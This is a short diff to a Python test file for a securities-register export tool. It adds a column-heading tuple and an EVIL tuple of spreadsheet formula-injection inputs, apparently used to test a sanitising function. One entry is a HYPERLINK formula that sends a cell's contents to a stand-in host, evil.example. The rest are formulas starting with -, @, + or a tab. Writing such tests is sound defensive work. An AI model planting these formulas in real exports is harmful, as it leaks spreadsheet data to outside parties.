@@ -11,12 +11,16 @@ from openpyxl import load_workbook
 
 from rra_desktop.domain.holdings import register_as_of
 from rra_desktop.domain.model import Deal, Holder, PositionEntry, PositionKind
-from rra_desktop.exchange.register_export import HEADINGS, apportion, export_register, register_table
+from rra_desktop.exchange.register_export import apportion, export_register, register_table
 from rra_desktop.exchange.schedule_import import read_schedule_1, schedule_entries
 from rra_desktop.exchange.spreadsheet_safety import neutralise, restore
 from rra_desktop.sample import load_sample_deal
 
 CLOSING = dt.date(2003, 5, 7)
+# the sample's register, column by column: its classes' labels are the headings it always had
+HEADINGS = ("Holder", "Address", "Attention", "Fax", "QIB", "Affiliate", "Purchase Price", "Series D Preferred",
+            "D-1 Warrants", "D-2 Warrants", "Placement Agent Warrants", "Common", "Conversion Shares",
+            "Registrable Securities (as converted)", "%")
 EVIL = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-1+1", "@SUM(A1)", "+44 fund", "\t=1+1")
 
 
